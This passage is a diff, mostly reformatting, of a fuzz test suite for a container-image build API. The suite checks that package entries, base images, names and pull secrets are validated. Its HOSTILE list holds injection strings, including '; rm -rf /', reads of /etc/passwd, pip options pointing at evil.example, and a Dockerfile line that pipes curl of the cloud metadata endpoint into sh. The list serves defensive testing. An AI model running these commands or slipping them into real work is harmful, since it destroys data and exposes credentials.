@@ -39,7 +39,10 @@ beforeAll(async () => {
   cli = await writeStandInCli();
   api = await startLocalApi({ containerCli: cli.path, maxImagesPerGroup: 100_000, maxConcurrentBuildsPerGroup: 100_000 });
   t = await roleTokens(api);
-  const created = await api.call<Image>('POST', GROUP, { token: t.groupAdmin, body: { displayName: 'hostile-fixture', type: 'cpu', build: { baseImage: BASE, packages: { pip: ['hostile-fixture'] } } } });
+  const created = await api.call<Image>('POST', GROUP, {
+    token: t.groupAdmin,
+    body: { displayName: 'hostile-fixture', type: 'cpu', build: { baseImage: BASE, packages: { pip: ['hostile-fixture'] } } },
+  });
   await pollBuild(api, t.groupAdmin, `${GROUP}/${created.body.name}/builds/${created.body.latestBuild!.id}`);
   fixture = created.body;
 }, SUITE_MS);
@@ -55,20 +58,118 @@ afterAll(async () => {
 // What hostile text is made of.
 
 const HOSTILE = [
-  '$(id)', '`id`', '${IFS}', '$HOME', ';', '; rm -rf /', '&&', '||', '|', '>', '<', '>>', '&', '\\', "'", '"', '#', ' ', '*', '?', '~', '{', '}', '[', ']', '(', ')', '!', '%0a', '%00',
-  '\n', '\r', '\r\n', '\u0000', '\t', '\u000b', '\u001b[31m', '\u007f',
-  '\u0430', '\u0435', '\u043e', '\uff41', '\uff0d', '\uff1b', '\uff04', // Cyrillic a, e, o; fullwidth a, -, ;, $
-  '\u202e', '\u202d', '\u2066', '\u2069', '\u200b', '\u200d', '\ufeff', '\u2028', '\u2029', '\u0085', // bidi, invisible, separators
-  '-', '--', '-e .', '-r /etc/passwd', '--index-url=http://evil.example/simple', '--extra-index-url http://evil.example', '-o APT::Get::AllowUnauthenticated=true', '--allow-unauthenticated', '-c file:///tmp/channel', '--pre',
-  'http://evil.example/pkg.tar.gz', 'file:///etc/passwd', '../../etc/passwd', '/etc/passwd', 'git+https://evil.example/x.git', '@ http://evil.example/x.whl',
-  '\nRUN curl http://169.254.169.254/latest/meta-data/ | sh', 'FROM scratch', 'COPY / /x', 'ARG BASE_IMAGE=evil', 'USER root',
-  '@', ':', '/', '=', '==', ',', '::', '.',
+  '$(id)',
+  '`id`',
+  '${IFS}',
+  '$HOME',
+  ';',
+  '; rm -rf /',
+  '&&',
+  '||',
+  '|',
+  '>',
+  '<',
+  '>>',
+  '&',
+  '\\',
+  "'",
+  '"',
+  '#',
+  ' ',
+  '*',
+  '?',
+  '~',
+  '{',
+  '}',
+  '[',
+  ']',
+  '(',
+  ')',
+  '!',
+  '%0a',
+  '%00',
+  '\n',
+  '\r',
+  '\r\n',
+  '\u0000',
+  '\t',
+  '\u000b',
+  '\u001b[31m',
+  '\u007f',
+  '\u0430',
+  '\u0435',
+  '\u043e',
+  '\uff41',
+  '\uff0d',
+  '\uff1b',
+  '\uff04', // Cyrillic a, e, o; fullwidth a, -, ;, $
+  '\u202e',
+  '\u202d',
+  '\u2066',
+  '\u2069',
+  '\u200b',
+  '\u200d',
+  '\ufeff',
+  '\u2028',
+  '\u2029',
+  '\u0085', // bidi, invisible, separators
+  '-',
+  '--',
+  '-e .',
+  '-r /etc/passwd',
+  '--index-url=http://evil.example/simple',
+  '--extra-index-url http://evil.example',
+  '-o APT::Get::AllowUnauthenticated=true',
+  '--allow-unauthenticated',
+  '-c file:///tmp/channel',
+  '--pre',
+  'http://evil.example/pkg.tar.gz',
+  'file:///etc/passwd',
+  '../../etc/passwd',
+  '/etc/passwd',
+  'git+https://evil.example/x.git',
+  '@ http://evil.example/x.whl',
+  '\nRUN curl http://169.254.169.254/latest/meta-data/ | sh',
+  'FROM scratch',
+  'COPY / /x',
+  'ARG BASE_IMAGE=evil',
+  'USER root',
+  '@',
+  ':',
+  '/',
+  '=',
+  '==',
+  ',',
+  '::',
+  '.',
 ];
-const BENIGN = ['requests', 'numpy', 'curl', 'libssl-dev', 'conda-forge', 'python', '==2.32.3', '>=1.20', '<2', '[standard]', '; python_version < "3.9"', '=3.0.11-1~deb12u2', '1.17*', 'g++', 'a', '0', '_', 'team-a'];
+const BENIGN = [
+  'requests',
+  'numpy',
+  'curl',
+  'libssl-dev',
+  'conda-forge',
+  'python',
+  '==2.32.3',
+  '>=1.20',
+  '<2',
+  '[standard]',
+  '; python_version < "3.9"',
+  '=3.0.11-1~deb12u2',
+  '1.17*',
+  'g++',
+  'a',
+  '0',
+  '_',
+  'team-a',
+];
 
 /** Text built from hostile and benign pieces, arbitrary code points, or one character repeated to a huge size. */
 const hostileText = fc.oneof(
-  { weight: 6, arbitrary: fc.array(fc.oneof(fc.constantFrom(...HOSTILE), fc.constantFrom(...BENIGN)), { minLength: 1, maxLength: 6 }).map((parts) => parts.join('')) },
+  {
+    weight: 6,
+    arbitrary: fc.array(fc.oneof(fc.constantFrom(...HOSTILE), fc.constantFrom(...BENIGN)), { minLength: 1, maxLength: 6 }).map((parts) => parts.join('')),
+  },
   { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
   { weight: 1, arbitrary: fc.tuple(fc.constantFrom(64, 201, 2_001, 70_000), fc.constantFrom('a', '$', '\u0430', '-', '\n')).map(([n, c]) => c.repeat(n)) },
 );
@@ -78,9 +179,22 @@ const urlSafe = (arb: fc.Arbitrary<string>) => arb.filter((s) => s.isWellFormed(
 const VALID: Record<PackageManager, string[]> = {
   apt: ['curl', 'g++', 'libssl-dev=3.0.11-1~deb12u2', 'python3', 'ca-certificates'],
   conda: ['numpy', 'numpy==1.17*', 'conda-forge::numpy==1.17*', 'numpy>=1.20,<2', '-c conda-forge::scipy==1.11*'],
-  pip: ['requests', 'requests==2.32.3', 'scikit-learn>=1.3,<1.6', 'uvicorn[standard]>=0.30', 'torch==2.1.0+cu118', 'backports.zoneinfo; python_version < "3.9"', "pandas; sys_platform == 'linux'"],
+  pip: [
+    'requests',
+    'requests==2.32.3',
+    'scikit-learn>=1.3,<1.6',
+    'uvicorn[standard]>=0.30',
+    'torch==2.1.0+cu118',
+    'backports.zoneinfo; python_version < "3.9"',
+    "pandas; sys_platform == 'linux'",
+  ],
 };
-const VALID_BASES = ['python:3.12-slim', 'registry.example.com:5000/team/base:1.0', `ubuntu@sha256:${'a'.repeat(64)}`, 'quay.io/jupyter/scipy-notebook:2024-05-27'];
+const VALID_BASES = [
+  'python:3.12-slim',
+  'registry.example.com:5000/team/base:1.0',
+  `ubuntu@sha256:${'a'.repeat(64)}`,
+  'quay.io/jupyter/scipy-notebook:2024-05-27',
+];
 
 // ---------------------------------------------------------------------------------------------
 // How every answer is judged.
@@ -94,13 +208,29 @@ async function send(method: string, path: string, options: CallOptions): Promise
 
 /** A success, or a 4xx problem+json; never a 5xx. */
 function expectHandled(reply: Reply, what: unknown) {
-  if (reply.status >= 500 || (reply.status >= 400 && (reply.headers.get('content-type') !== 'application/problem+json' || reply.body?.status !== reply.status))) {
+  if (
+    reply.status >= 500 ||
+    (reply.status >= 400 && (reply.headers.get('content-type') !== 'application/problem+json' || reply.body?.status !== reply.status))
+  ) {
     throw new Error(`${JSON.stringify(what).slice(0, 300)} was answered ${reply.status}: ${JSON.stringify(reply.body).slice(0, 500)}`);
   }
   expect(reply.status).toBeLessThan(500);
 }
 
-const RUNS = { packages: 150, rebuilds: 60, displayNames: 150, descriptions: 150, urls: 150, baseImages: 80, secrets: 150, groupSecrets: 100, crossReferences: 150, queries: 200, paths: 150, bodies: 150 };
+const RUNS = {
+  packages: 150,
+  rebuilds: 60,
+  displayNames: 150,
+  descriptions: 150,
+  urls: 150,
+  baseImages: 80,
+  secrets: 150,
+  groupSecrets: 100,
+  crossReferences: 150,
+  queries: 200,
+  paths: 150,
+  bodies: 150,
+};
 async function run<Ts>(name: keyof typeof RUNS, property: fc.IAsyncProperty<Ts>) {
   await fc.assert(property, { numRuns: RUNS[name] });
   figures.set(`runs.${name}`, RUNS[name]);
@@ -118,349 +248,483 @@ const ENTRY_POINTER = /^\/build\/packages\/(apt|conda|pip)(\/\d+)?$/;
 describe('package entries', () => {
   const entry = (manager: PackageManager) => fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...VALID[manager]) }, { weight: 2, arbitrary: hostileText });
   const packages = fc.record(
-    { apt: fc.array(entry('apt'), { minLength: 1, maxLength: 3 }), conda: fc.array(entry('conda'), { minLength: 1, maxLength: 3 }), pip: fc.array(entry('pip'), { minLength: 1, maxLength: 3 }) },
+    {
+      apt: fc.array(entry('apt'), { minLength: 1, maxLength: 3 }),
+      conda: fc.array(entry('conda'), { minLength: 1, maxLength: 3 }),
+      pip: fc.array(entry('pip'), { minLength: 1, maxLength: 3 }),
+    },
     { requiredKeys: [] },
   );
 
-  it('answers every create with a custom image or a 4xx naming the entries, never a 5xx', async () => {
-    await run(
-      'packages',
-      fc.asyncProperty(packages, async (lists) => {
-        // Act
-        const reply = await send('POST', GROUP, { token: t.groupAdmin, body: { displayName: 'hostile-pkgs', type: 'cpu', build: { baseImage: BASE, packages: lists } } });
+  it(
+    'answers every create with a custom image or a 4xx naming the entries, never a 5xx',
+    async () => {
+      await run(
+        'packages',
+        fc.asyncProperty(packages, async (lists) => {
+          // Act
+          const reply = await send('POST', GROUP, {
+            token: t.groupAdmin,
+            body: { displayName: 'hostile-pkgs', type: 'cpu', build: { baseImage: BASE, packages: lists } },
+          });
 
-        // Assess
-        expectHandled(reply, lists);
-        if (reply.status === 422) {
-          for (const error of reply.body.errors) expect(error.path).toMatch(ENTRY_POINTER);
+          // Assess
+          expectHandled(reply, lists);
+          if (reply.status === 422) {
+            for (const error of reply.body.errors) expect(error.path).toMatch(ENTRY_POINTER);
+          }
+          if (reply.status === 201) {
+            const image = reply.body as Image;
+            for (const manager of PACKAGE_MANAGERS) for (const e of image.buildSpec!.packages[manager] ?? []) expect(PACKAGE_CHECKS[manager](e)).toBeNull();
+            accepted.push({ image: image.name, buildId: image.latestBuild!.id, spec: image.buildSpec! });
+            figures.count('acceptedSpecs');
+          }
+        }),
+      );
+    },
+    SUITE_MS,
+  );
+
+  it(
+    'answers every rebuild with a build, a 409 or a 4xx naming the entries, never a 5xx',
+    async () => {
+      await run(
+        'rebuilds',
+        fc.asyncProperty(packages, async (lists) => {
+          // Act
+          const reply = await send('POST', `${GROUP}/${fixture.name}/builds`, { token: t.groupAdmin, body: { build: { baseImage: BASE, packages: lists } } });
+
+          // Assess
+          expectHandled(reply, lists);
+          if (reply.status === 422) for (const error of reply.body.errors) expect(error.path).toMatch(ENTRY_POINTER);
+          if (reply.status === 202) {
+            accepted.push({ image: fixture.name, buildId: reply.body.id, spec: reply.body.spec });
+            figures.count('acceptedSpecs');
+          }
+        }),
+      );
+    },
+    SUITE_MS,
+  );
+
+  it(
+    'hands the CLI the fixed Dockerfile template and list files holding exactly the accepted entries, one per line',
+    async () => {
+      // Prepare
+      expect(accepted.length).toBeGreaterThan(5);
+      const template = (managers: PackageManager[]) =>
+        renderBuildContext({ baseImage: BASE, packages: Object.fromEntries(managers.map((m) => [m, [VALID[m][0]!]])) }).files.Dockerfile;
+
+      // Act
+      const finished = await Promise.all(accepted.map((a) => pollBuild(api, t.groupAdmin, `${GROUP}/${a.image}/builds/${a.buildId}`)));
+
+      // Assess
+      let checked = 0;
+      for (const [i, a] of accepted.entries()) {
+        const build = finished[i]!;
+        expect(['succeeded']).toContain(build.status);
+        if (build.reused) continue;
+        const context = await cli.contextOf(a.buildId);
+        const managers = PACKAGE_MANAGERS.filter((m) => a.spec.packages[m]?.length);
+        expect(context.Dockerfile).toBe(template(managers));
+        for (const manager of PACKAGE_MANAGERS) {
+          const list = a.spec.packages[manager];
+          if (!list?.length) {
+            expect(context[`${manager}.txt`]).toBeUndefined();
+            continue;
+          }
+          const lines = context[`${manager}.txt`]!.split('\n');
+          expect(lines.pop()).toBe('');
+          expect(lines).toEqual(list);
+          for (const line of lines) expect([line, PACKAGE_CHECKS[manager](line)]).toEqual([line, null]);
         }
-        if (reply.status === 201) {
-          const image = reply.body as Image;
-          for (const manager of PACKAGE_MANAGERS) for (const e of image.buildSpec!.packages[manager] ?? []) expect(PACKAGE_CHECKS[manager](e)).toBeNull();
-          accepted.push({ image: image.name, buildId: image.latestBuild!.id, spec: image.buildSpec! });
-          figures.count('acceptedSpecs');
-        }
-      }),
-    );
-  }, SUITE_MS);
-
-  it('answers every rebuild with a build, a 409 or a 4xx naming the entries, never a 5xx', async () => {
-    await run(
-      'rebuilds',
-      fc.asyncProperty(packages, async (lists) => {
-        // Act
-        const reply = await send('POST', `${GROUP}/${fixture.name}/builds`, { token: t.groupAdmin, body: { build: { baseImage: BASE, packages: lists } } });
-
-        // Assess
-        expectHandled(reply, lists);
-        if (reply.status === 422) for (const error of reply.body.errors) expect(error.path).toMatch(ENTRY_POINTER);
-        if (reply.status === 202) {
-          accepted.push({ image: fixture.name, buildId: reply.body.id, spec: reply.body.spec });
-          figures.count('acceptedSpecs');
-        }
-      }),
-    );
-  }, SUITE_MS);
-
-  it('hands the CLI the fixed Dockerfile template and list files holding exactly the accepted entries, one per line', async () => {
-    // Prepare
-    expect(accepted.length).toBeGreaterThan(5);
-    const template = (managers: PackageManager[]) =>
-      renderBuildContext({ baseImage: BASE, packages: Object.fromEntries(managers.map((m) => [m, [VALID[m][0]!]])) }).files.Dockerfile;
-
-    // Act
-    const finished = await Promise.all(accepted.map((a) => pollBuild(api, t.groupAdmin, `${GROUP}/${a.image}/builds/${a.buildId}`)));
-
-    // Assess
-    let checked = 0;
-    for (const [i, a] of accepted.entries()) {
-      const build = finished[i]!;
-      expect(['succeeded']).toContain(build.status);
-      if (build.reused) continue;
-      const context = await cli.contextOf(a.buildId);
-      const managers = PACKAGE_MANAGERS.filter((m) => a.spec.packages[m]?.length);
-      expect(context.Dockerfile).toBe(template(managers));
-      for (const manager of PACKAGE_MANAGERS) {
-        const list = a.spec.packages[manager];
-        if (!list?.length) {
-          expect(context[`${manager}.txt`]).toBeUndefined();
-          continue;
-        }
-        const lines = context[`${manager}.txt`]!.split('\n');
-        expect(lines.pop()).toBe('');
-        expect(lines).toEqual(list);
-        for (const line of lines) expect([line, PACKAGE_CHECKS[manager](line)]).toEqual([line, null]);
+        const argv = (await cli.callsOf(a.buildId)).flatMap((c) => c.args);
+        // No entry is a command-line argument (short entries such as "a" are inside words like "--format").
+        for (const e of Object.values(a.spec.packages).flat())
+          expect([e, argv.filter((arg) => arg === e || (e.length >= 8 && arg.includes(e)))]).toEqual([e, []]);
+        checked++;
       }
-      const argv = (await cli.callsOf(a.buildId)).flatMap((c) => c.args);
-      // No entry is a command-line argument (short entries such as "a" are inside words like "--format").
-      for (const e of Object.values(a.spec.packages).flat()) expect([e, argv.filter((arg) => arg === e || (e.length >= 8 && arg.includes(e)))]).toEqual([e, []]);
-      checked++;
-    }
-    expect(checked).toBeGreaterThan(0);
-    figures.set('buildContextsChecked', checked);
-    figures.set('acceptedBuildsFollowed', accepted.length);
-  }, SUITE_MS);
+      expect(checked).toBeGreaterThan(0);
+      figures.set('buildContextsChecked', checked);
+      figures.set('acceptedBuildsFollowed', accepted.length);
+    },
+    SUITE_MS,
+  );
 });
 
 describe('display names, descriptions and image urls', () => {
-  it('creates an image under a generated DNS name, or answers 4xx, whatever the display name', async () => {
-    await run(
-      'displayNames',
-      fc.asyncProperty(fc.oneof(hostileText, fc.stringMatching(/^[a-z0-9.-]{1,63}$/)), async (displayName) => {
-        // Act
-        const reply = await send('POST', GROUP, { token: t.groupAdmin, body: { displayName, type: 'cpu', url: 'python:3.12' } });
+  it(
+    'creates an image under a generated DNS name, or answers 4xx, whatever the display name',
+    async () => {
+      await run(
+        'displayNames',
+        fc.asyncProperty(fc.oneof(hostileText, fc.stringMatching(/^[a-z0-9.-]{1,63}$/)), async (displayName) => {
+          // Act
+          const reply = await send('POST', GROUP, { token: t.groupAdmin, body: { displayName, type: 'cpu', url: 'python:3.12' } });
 
-        // Assess
-        expectHandled(reply, displayName);
-        if (reply.status === 422) expect(pathsOf(reply)).toEqual(['/displayName']);
-        if (reply.status === 201) {
-          expect(reply.body.name).toMatch(IMAGE_NAME);
-          expect(reply.body.displayName).toBe(displayName);
-        }
-      }),
-    );
-  }, SUITE_MS);
+          // Assess
+          expectHandled(reply, displayName);
+          if (reply.status === 422) expect(pathsOf(reply)).toEqual(['/displayName']);
+          if (reply.status === 201) {
+            expect(reply.body.name).toMatch(IMAGE_NAME);
+            expect(reply.body.displayName).toBe(displayName);
+          }
+        }),
+      );
+    },
+    SUITE_MS,
+  );
 
-  it('keeps a description exactly as given, or answers 4xx', async () => {
-    await run(
-      'descriptions',
-      fc.asyncProperty(hostileText, async (description) => {
-        // Act
-        const reply = await send('POST', GROUP, { token: t.groupAdmin, body: { displayName: 'hostile-description', description, type: 'cpu', url: 'python:3.12' } });
+  it(
+    'keeps a description exactly as given, or answers 4xx',
+    async () => {
+      await run(
+        'descriptions',
+        fc.asyncProperty(hostileText, async (description) => {
+          // Act
+          const reply = await send('POST', GROUP, {
+            token: t.groupAdmin,
+            body: { displayName: 'hostile-description', description, type: 'cpu', url: 'python:3.12' },
+          });
 
-        // Assess
-        expectHandled(reply, description);
-        if (reply.status === 201) {
-          const again = await send('GET', `${GROUP}/${reply.body.name}`, { token: t.member });
-          expect(again.body.description).toBe(description);
-        }
-      }),
-    );
-  }, SUITE_MS);
+          // Assess
+          expectHandled(reply, description);
+          if (reply.status === 201) {
+            const again = await send('GET', `${GROUP}/${reply.body.name}`, { token: t.member });
+            expect(again.body.description).toBe(description);
+          }
+        }),
+      );
+    },
+    SUITE_MS,
+  );
 
-  it('accepts only container image references as urls, or answers 4xx', async () => {
-    await run(
-      'urls',
-      fc.asyncProperty(fc.oneof(hostileText, fc.constantFrom(...VALID_BASES)), fc.oneof(hostileText, fc.constantFrom(...VALID_BASES)), async (url, urlForGpu) => {
-        // Act
-        const reply = await send('POST', GROUP, { token: t.groupAdmin, body: { displayName: 'hostile-url', type: 'universal', url, urlForGpu } });
+  it(
+    'accepts only container image references as urls, or answers 4xx',
+    async () => {
+      await run(
+        'urls',
+        fc.asyncProperty(
+          fc.oneof(hostileText, fc.constantFrom(...VALID_BASES)),
+          fc.oneof(hostileText, fc.constantFrom(...VALID_BASES)),
+          async (url, urlForGpu) => {
+            // Act
+            const reply = await send('POST', GROUP, { token: t.groupAdmin, body: { displayName: 'hostile-url', type: 'universal', url, urlForGpu } });
 
-        // Assess
-        expectHandled(reply, { url, urlForGpu });
-        if (reply.status === 201) {
-          expect([IMAGE_REFERENCE.test(url), IMAGE_REFERENCE.test(urlForGpu)]).toEqual([true, true]);
-          expect(reply.body).toMatchObject({ url, urlForGpu });
-        }
-      }),
-    );
-  }, SUITE_MS);
+            // Assess
+            expectHandled(reply, { url, urlForGpu });
+            if (reply.status === 201) {
+              expect([IMAGE_REFERENCE.test(url), IMAGE_REFERENCE.test(urlForGpu)]).toEqual([true, true]);
+              expect(reply.body).toMatchObject({ url, urlForGpu });
+            }
+          },
+        ),
+      );
+    },
+    SUITE_MS,
+  );
 
-  it('builds only on base images that are image references, handing the base to the CLI as one argument', async () => {
-    const bases: { base: string; buildId: string; image: string }[] = [];
-    await run(
-      'baseImages',
-      fc.asyncProperty(fc.oneof(hostileText, fc.constantFrom(...VALID_BASES)), async (baseImage) => {
-        // Act
-        const reply = await send('POST', GROUP, { token: t.groupAdmin, body: { displayName: 'hostile-base', type: 'cpu', build: { baseImage, packages: { pip: ['hostile-base-probe'] } } } });
+  it(
+    'builds only on base images that are image references, handing the base to the CLI as one argument',
+    async () => {
+      const bases: { base: string; buildId: string; image: string }[] = [];
+      await run(
+        'baseImages',
+        fc.asyncProperty(fc.oneof(hostileText, fc.constantFrom(...VALID_BASES)), async (baseImage) => {
+          // Act
+          const reply = await send('POST', GROUP, {
+            token: t.groupAdmin,
+            body: { displayName: 'hostile-base', type: 'cpu', build: { baseImage, packages: { pip: ['hostile-base-probe'] } } },
+          });
 
-        // Assess
-        expectHandled(reply, baseImage);
-        if (reply.status === 422) expect(pathsOf(reply)).toEqual(['/build/baseImage']);
-        if (reply.status === 201) bases.push({ base: baseImage, buildId: reply.body.latestBuild.id, image: reply.body.name });
-      }),
-    );
-    for (const b of bases) {
-      const build = await pollBuild(api, t.groupAdmin, `${GROUP}/${b.image}/builds/${b.buildId}`);
-      if (build.reused) continue;
-      const calls = await cli.callsOf(b.buildId);
-      const inspect = calls.find((c) => c.args[0] === 'buildx' && c.args[1] === 'imagetools')!;
-      const buildx = calls.find((c) => c.args[0] === 'buildx' && c.args[1] === 'build')!;
-      // One whole argument each time: the inspected reference, and the build argument's value.
-      expect(inspect.args.at(-1)).toBe(b.base);
-      expect(buildx.args[buildx.args.indexOf(`BASE_IMAGE=${b.base}`) - 1]).toBe('--build-arg');
-      figures.count('baseImagesFollowedToCli');
-    }
-    expect(bases.length).toBeGreaterThan(0);
-  }, SUITE_MS);
+          // Assess
+          expectHandled(reply, baseImage);
+          if (reply.status === 422) expect(pathsOf(reply)).toEqual(['/build/baseImage']);
+          if (reply.status === 201) bases.push({ base: baseImage, buildId: reply.body.latestBuild.id, image: reply.body.name });
+        }),
+      );
+      for (const b of bases) {
+        const build = await pollBuild(api, t.groupAdmin, `${GROUP}/${b.image}/builds/${b.buildId}`);
+        if (build.reused) continue;
+        const calls = await cli.callsOf(b.buildId);
+        const inspect = calls.find((c) => c.args[0] === 'buildx' && c.args[1] === 'imagetools')!;
+        const buildx = calls.find((c) => c.args[0] === 'buildx' && c.args[1] === 'build')!;
+        // One whole argument each time: the inspected reference, and the build argument's value.
+        expect(inspect.args.at(-1)).toBe(b.base);
+        expect(buildx.args[buildx.args.indexOf(`BASE_IMAGE=${b.base}`) - 1]).toBe('--build-arg');
+        figures.count('baseImagesFollowedToCli');
+      }
+      expect(bases.length).toBeGreaterThan(0);
+    },
+    SUITE_MS,
+  );
 });
 
 describe('pull secret names and bodies', () => {
-  it('stores a secret only under a DNS-label name and a valid login, or answers 4xx', async () => {
-    const login = fc.record({
-      registry: fc.oneof(hostileText, fc.constant('ghcr.io')),
-      username: fc.oneof(hostileText, fc.constant('bot')),
-      password: fc.oneof(hostileText, fc.constant('not-a-real-password')),
-    });
-    await run(
-      'secrets',
-      fc.asyncProperty(urlSafe(fc.oneof(hostileText, fc.stringMatching(/^[a-z0-9][a-z0-9-]{0,20}[a-z0-9]$/))), login, async (name, body) => {
-        // Act
-        const reply = await send('PUT', `/secrets/${encodeURIComponent(name)}`, { token: t.systemAdmin, body });
-        const referenced = await send('POST', GROUP, { token: t.groupAdmin, body: { displayName: 'hostile-secret-ref', type: 'cpu', url: 'python:3.12', pullSecret: name } });
+  it(
+    'stores a secret only under a DNS-label name and a valid login, or answers 4xx',
+    async () => {
+      const login = fc.record({
+        registry: fc.oneof(hostileText, fc.constant('ghcr.io')),
+        username: fc.oneof(hostileText, fc.constant('bot')),
+        password: fc.oneof(hostileText, fc.constant('not-a-real-password')),
+      });
+      await run(
+        'secrets',
+        fc.asyncProperty(urlSafe(fc.oneof(hostileText, fc.stringMatching(/^[a-z0-9][a-z0-9-]{0,20}[a-z0-9]$/))), login, async (name, body) => {
+          // Act
+          const reply = await send('PUT', `/secrets/${encodeURIComponent(name)}`, { token: t.systemAdmin, body });
+          const referenced = await send('POST', GROUP, {
+            token: t.groupAdmin,
+            body: { displayName: 'hostile-secret-ref', type: 'cpu', url: 'python:3.12', pullSecret: name },
+          });
 
-        // Assess
-        expectHandled(reply, { name, body });
-        expectHandled(referenced, { name });
-        if (reply.status === 200 || reply.status === 201) {
-          expect(name).toMatch(SECRET_NAME);
-          expect(Object.keys(reply.body).sort()).toEqual(['createdAt', 'name', 'registry']);
-          expect(referenced.status).toBe(201);
-        }
-        if (referenced.status === 422) expect(pathsOf(referenced)).toEqual(['/pullSecret']);
-      }),
-    );
-    const listed = await send('GET', '/secrets', { token: t.systemAdmin });
-    for (const s of listed.body.items) expect(s.name).toMatch(SECRET_NAME);
-  }, SUITE_MS);
+          // Assess
+          expectHandled(reply, { name, body });
+          expectHandled(referenced, { name });
+          if (reply.status === 200 || reply.status === 201) {
+            expect(name).toMatch(SECRET_NAME);
+            expect(Object.keys(reply.body).sort()).toEqual(['createdAt', 'name', 'registry']);
+            expect(referenced.status).toBe(201);
+          }
+          if (referenced.status === 422) expect(pathsOf(referenced)).toEqual(['/pullSecret']);
+        }),
+      );
+      const listed = await send('GET', '/secrets', { token: t.systemAdmin });
+      for (const s of listed.body.items) expect(s.name).toMatch(SECRET_NAME);
+    },
+    SUITE_MS,
+  );
 });
 
 describe("a group's pull secrets, and references across groups", () => {
-  it("stores a group's secret only under a DNS-label name for its own admin, or answers 4xx; lists it to no one else", async () => {
-    await run(
-      'groupSecrets',
-      fc.asyncProperty(urlSafe(fc.oneof(hostileText, fc.stringMatching(/^[a-z0-9][a-z0-9-]{0,20}[a-z0-9]$/))), fc.constantFrom('groupAdmin', 'otherAdmin', 'member'), async (name, who) => {
-        // Act
-        const reply = await send('PUT', `/groups/team-a/secrets/${encodeURIComponent(name)}`, { token: t[who as 'groupAdmin'], body: { registry: 'ghcr.io', username: 'bot', password: 'not-a-real-password' } });
+  it(
+    "stores a group's secret only under a DNS-label name for its own admin, or answers 4xx; lists it to no one else",
+    async () => {
+      await run(
+        'groupSecrets',
+        fc.asyncProperty(
+          urlSafe(fc.oneof(hostileText, fc.stringMatching(/^[a-z0-9][a-z0-9-]{0,20}[a-z0-9]$/))),
+          fc.constantFrom('groupAdmin', 'otherAdmin', 'member'),
+          async (name, who) => {
+            // Act
+            const reply = await send('PUT', `/groups/team-a/secrets/${encodeURIComponent(name)}`, {
+              token: t[who as 'groupAdmin'],
+              body: { registry: 'ghcr.io', username: 'bot', password: 'not-a-real-password' },
+            });
 
-        // Assess
-        expectHandled(reply, { name, who });
-        // Anyone else: 403, unless the name makes no route at all (an empty segment, say).
-        if (who !== 'groupAdmin') expect([reply.status, reply.status === 404 ? reply.body.title : '']).toEqual(reply.status === 404 ? [404, 'No such route'] : [403, '']);
-        if (reply.status === 200 || reply.status === 201) expect(name).toMatch(SECRET_NAME);
-      }),
-    );
-    const listed = await send('GET', '/groups/team-a/secrets', { token: t.groupAdmin });
-    for (const s of listed.body.items) expect(s.name).toMatch(SECRET_NAME);
-    expect(listed.body.items.length).toBeGreaterThan(0);
-    for (const who of ['otherAdmin', 'member', 'otherMember'] as const) expect((await send('GET', '/groups/team-a/secrets', { token: t[who] })).status).toBe(403);
-    const system = await send('GET', '/secrets', { token: t.otherAdmin });
-    for (const s of listed.body.items) expect(system.body.items.map((x: { name: string }) => x.name)).not.toContain(s.name);
-  }, SUITE_MS);
+            // Assess
+            expectHandled(reply, { name, who });
+            // Anyone else: 403, unless the name makes no route at all (an empty segment, say).
+            if (who !== 'groupAdmin')
+              expect([reply.status, reply.status === 404 ? reply.body.title : '']).toEqual(reply.status === 404 ? [404, 'No such route'] : [403, '']);
+            if (reply.status === 200 || reply.status === 201) expect(name).toMatch(SECRET_NAME);
+          },
+        ),
+      );
+      const listed = await send('GET', '/groups/team-a/secrets', { token: t.groupAdmin });
+      for (const s of listed.body.items) expect(s.name).toMatch(SECRET_NAME);
+      expect(listed.body.items.length).toBeGreaterThan(0);
+      for (const who of ['otherAdmin', 'member', 'otherMember'] as const)
+        expect((await send('GET', '/groups/team-a/secrets', { token: t[who] })).status).toBe(403);
+      const system = await send('GET', '/secrets', { token: t.otherAdmin });
+      for (const s of listed.body.items) expect(system.body.items.map((x: { name: string }) => x.name)).not.toContain(s.name);
+    },
+    SUITE_MS,
+  );
 
-  it("never lets team-b name team-a's secrets or built images, whatever the spelling; a 422 names the field", async () => {
-    // Prepare: a secret of team-a's, and team-a's built image (its url is set a moment after its build ends).
-    await send('PUT', '/groups/team-a/secrets/cross-held', { token: t.groupAdmin, body: { registry: 'ghcr.io', username: 'bot', password: 'not-a-real-password' } });
-    const built = await waitFor(async () => (await send('GET', `${GROUP}/${fixture.name}`, { token: t.groupAdmin })).body.url as string | null ?? undefined, "team-a's built url");
-    const [repository, tag] = [built.slice(0, built.lastIndexOf(':')), built.slice(built.lastIndexOf(':') + 1)];
-    const host = repository.slice(0, repository.indexOf('/'));
-    const secretRefs = fc.oneof(
-      fc.constantFrom('team-a/cross-held', 'team-a/zz-none', 'cross-held', 'team-b/cross-held', 'TEAM-A/cross-held', 'team-a/cross-held/', 'team-a//cross-held', 'team-a/cross-held\u0000'),
-      fc.tuple(fc.constantFrom('team-a', 'team-a.', 'team-a ', 'Team-a', '../team-a', 'team-a%2f'), fc.constantFrom('cross-held', 'CROSS-HELD', 'cross-held ')).map(([g, n]) => `${g}/${n}`),
-      hostileText,
-    );
-    const imageRefs = fc.oneof(
-      fc.constantFrom(built, built.toUpperCase(), built.replace('localhost', '127.0.0.1'), `${repository}@sha256:${'a'.repeat(64)}`, `${built}@sha256:${'a'.repeat(64)}`, `${host.toUpperCase()}/${repository.slice(host.length + 1)}:${tag}`),
-      fc.tuple(fc.constantFrom(repository, repository.replace('localhost', '127.0.0.1'), `${host}:443/${repository.slice(host.length + 1)}`), fc.constantFrom(tag, tag.toUpperCase(), `${tag}0`, 'latest', `sha-${'0'.repeat(32)}`)).map(([r, g]) => `${r}:${g}`),
-      hostileText,
-    );
-    const field = fc.constantFrom('pullSecret', 'build.pullSecret', 'url', 'urlForGpu', 'build.baseImage');
+  it(
+    "never lets team-b name team-a's secrets or built images, whatever the spelling; a 422 names the field",
+    async () => {
+      // Prepare: a secret of team-a's, and team-a's built image (its url is set a moment after its build ends).
+      await send('PUT', '/groups/team-a/secrets/cross-held', {
+        token: t.groupAdmin,
+        body: { registry: 'ghcr.io', username: 'bot', password: 'not-a-real-password' },
+      });
+      const built = await waitFor(
+        async () => ((await send('GET', `${GROUP}/${fixture.name}`, { token: t.groupAdmin })).body.url as string | null) ?? undefined,
